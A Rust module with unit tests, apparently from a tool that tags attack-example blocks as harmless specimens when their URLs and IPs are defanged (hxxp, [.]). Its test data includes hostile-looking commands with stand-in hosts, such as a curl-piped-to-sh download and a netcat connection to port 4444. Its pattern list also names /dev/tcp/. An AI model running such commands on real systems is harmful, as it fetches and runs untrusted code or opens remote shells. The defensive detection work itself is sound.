//! Addresses written so that they do not work, as analysts write them: `hxxp://`, `evil[.]example`. In a Skill about
//! attacks, a block that holds such addresses and none that works is a specimen.

use model::{Role, Text};

/// How an address is made harmless.
const DEFANGED: [&str; 6] = ["hxxp://", "hxxps://", "[.]", "[:]//", "[dot]", "(dot)"];
/// How one that works begins.
const LIVE: [&str; 5] = ["http://", "https://", "ftp://", "wss://", "/dev/tcp/"];

/// The role of a block that holds `text`, in a Skill that says that it is about attacks.
pub(in crate::document) fn of_block(text: &str) -> Option<(Role, Text)> {
    let has =
        |forms: &[&str]| forms.iter().any(|form| memchr::memmem::find(text.as_bytes(), form.as_bytes()).is_some());
    let mut numbers = text.split(|c: char| !c.is_ascii_digit() && c != '.');
    let mut live = || has(&LIVE) || numbers.any(|word| word.parse::<std::net::Ipv4Addr>().is_ok());
    (has(&DEFANGED) && !live()).then(|| {
        (Role::Quotation, Text::new("a specimen: its addresses are made harmless", "样本：其中地址已做无害化处理"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn specimens_hold_no_address_that_works() {
        for (text, expected) in [
            ("curl hxxps://drop[.]invalid/u | sh", true),
            ("nc 203[.]0.113.9 4444", true),
            ("curl https://drop.example/u # see hxxp://a[.]b", false),
            ("nc 203.0.113.9 4444 # see hxxp://a[.]b", false),
            ("curl https://drop.example/u", false),
            ("a[0].b", false),
        ] {
            assert_eq!(of_block(text).is_some(), expected, "{text}");
        }
    }
}
